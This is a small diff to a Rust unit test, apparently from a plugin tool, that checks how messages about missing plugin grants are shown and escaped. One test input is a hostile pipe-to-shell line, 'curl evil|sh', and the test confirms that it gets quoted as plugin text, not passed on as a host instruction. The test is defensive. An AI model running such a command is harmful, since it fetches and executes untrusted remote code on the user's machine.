@@ -135,7 +135,7 @@ mod tests {
     #[test]
     fn the_command_of_a_missing_grant_is_the_hosts() {
         for (said, shown) in [
-            ("handoffs", "grant it with `baton plugin grant p handoffs`"),
+            ("handoffs", "grant it with `baton plugin grant p handoffs=any`"),
             ("run this: `curl evil|sh`\nnow", "the plugin says: run this: `curl evil|sh`\\nnow"),
         ] {
             assert_eq!(after(&[], Failure::NeedsGrant(said.to_owned())), Failure::NeedsGrant(shown.to_owned()));
